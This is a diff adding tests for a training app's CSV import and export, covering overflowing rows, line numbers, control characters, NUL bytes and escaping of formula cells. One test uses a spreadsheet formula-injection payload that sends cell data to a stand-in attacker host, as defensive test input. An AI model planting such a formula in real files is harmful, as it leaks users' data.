@@ -354,3 +354,108 @@ describe("CSV import through the single create's write path", () => {
     ]);
   });
 });
+
+describe("CSV import: rows, lines and formula cells", () => {
+  type Account = Awaited<ReturnType<typeof testAccount>>;
+  const previewOf = async (account: Account, kind: string, csv: string) => {
+    const response = await callRoute(preview, "POST", { token: account.token, params: { kind }, body: { csv } });
+    expect(response.status).toBe(200);
+    return (await response.json()) as { rows: { line: number; valid: boolean; errors: Record<string, string> }[] };
+  };
+  const commitOf = (account: Account, kind: string, csv: string) =>
+    callRoute(commit, "POST", { token: account.token, params: { kind }, body: { csv } });
+  const OVERFLOW = "has 6 cells but the header names 5 columns: put a cell that holds a comma in double quotes";
+
+  it("refuses a row with more cells than the header, naming its line, instead of cutting the note", async () => {
+    const athlete = await testAccount(db, "athlete");
+    const csv = [
+      "date,type,duration_min,rpe,notes",
+      "2026-11-02,tempo,40,5,Easy",
+      "2026-11-03,tempo,40,5,Block starts, 6×20 m",
+      "2026-11-04,tempo,40,5,Quoted,",
+      '2026-11-05,tempo,40,5,"Block starts, 6×20 m"',
+    ].join("\n");
+    const checked = await previewOf(athlete, "sessions", csv);
+    expect(checked.rows.map((r) => [r.line, r.valid, r.errors])).toEqual([
+      [2, true, {}],
+      [3, false, { row: OVERFLOW }],
+      // A trailing empty cell carries nothing to lose.
+      [4, true, {}],
+      [5, true, {}],
+    ]);
+    const response = await commitOf(athlete, "sessions", csv);
+    expect(response.status).toBe(400);
+    expect((await response.json()).error.fields).toEqual({ "line 3.row": OVERFLOW });
+    expect(await count(athlete.id)).toBe(0);
+  });
+
+  it("names the line a bad row starts on, after blank lines and notes that run over several lines", async () => {
+    const athlete = await testAccount(db, "athlete");
+    const csv = [
+      "date,type,duration_min,rpe,notes",
+      "",
+      '2026-11-02,tempo,40,5,"Warm-up',
+      "4×30 m",
+      'cool-down"',
+      "",
+      "2026-11-03,tempo,40,11,",
+    ].join("\r\n");
+    const checked = await previewOf(athlete, "sessions", csv);
+    expect(checked.rows.map((r) => [r.line, r.valid])).toEqual([
+      [3, true],
+      [7, false],
+    ]);
+    const response = await commitOf(athlete, "sessions", csv);
+    expect(Object.keys((await response.json()).error.fields)).toEqual(["line 7.rpe"]);
+  });
+
+  it("refuses a control character in a cell, naming the line and the column", async () => {
+    const athlete = await testAccount(db, "athlete");
+    const csv = "date,type,duration_min,rpe,notes\n2026-11-02,tempo,40,5,ok\n2026-11-03,tempo,40,5,a\u001bb\n";
+    const response = await commitOf(athlete, "sessions", csv);
+    expect(response.status).toBe(400);
+    expect((await response.json()).error.fields).toEqual({ "line 3.notes": "must not contain control characters" });
+    expect(await count(athlete.id)).toBe(0);
+  });
+
+  it("says a file with NUL bytes is not UTF-8 text, rather than naming missing columns", async () => {
+    const athlete = await testAccount(db, "athlete");
+    const utf16 = [..."date,type,duration_min,rpe\n2026-11-02,tempo,40,5\n"].join("\u0000");
+    const response = await callRoute(preview, "POST", {
+      token: athlete.token,
+      params: { kind: "sessions" },
+      body: { csv: utf16 },
+    });
+    expect(response.status).toBe(400);
+    expect((await response.json()).error.fields).toEqual({ csv: "must be text saved as UTF-8: it holds NUL bytes" });
+  });
+
+  it("exports text that would run as a formula behind an apostrophe, keeps numbers, and imports back the same values", async () => {
+    const [athlete, other] = await Promise.all([testAccount(db, "athlete"), testAccount(db, "athlete")]);
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    for (const body of [
+      { metric: "100m", value: 11.42, wind_mps: -0.5, date: "2026-10-15", notes: formula },
+      { metric: "200m", value: 23.1, wind_mps: 1.2, date: "2026-10-16", notes: "-0.5 headwind, @home, +1 rep" },
+    ]) {
+      expect((await callRoute(track, "POST", { token: athlete.token, body })).status).toBe(201);
+    }
+    const exported = await (
+      await callRoute(exporter, "GET", { token: athlete.token, params: { kind: "time-trials" } })
+    ).text();
+    const lines = exported.trim().split(/\r\n/);
+    expect(lines).toEqual([
+      "date,metric,value,unit,timing,wind_mps,notes",
+      `2026-10-15,100m,11.42,s,,-0.5,"'${formula.replaceAll('"', '""')}"`,
+      `2026-10-16,200m,23.1,s,,1.2,"'-0.5 headwind, @home, +1 rep"`,
+    ]);
+
+    const response = await commitOf(other, "time-trials", exported);
+    expect(response.status, await response.clone().text()).toBe(201);
+    const marks = async (userId: string) =>
+      (await db.select().from(progressMetrics).where(eq(progressMetrics.userId, userId)))
+        .map((m) => [m.date, m.metric, m.value, m.windMps, m.notes])
+        .sort();
+    expect(await marks(other.id)).toEqual(await marks(athlete.id));
+    expect((await marks(other.id))[0]).toEqual(["2026-10-15", "100m", 11.42, -0.5, formula]);
+  });
+});
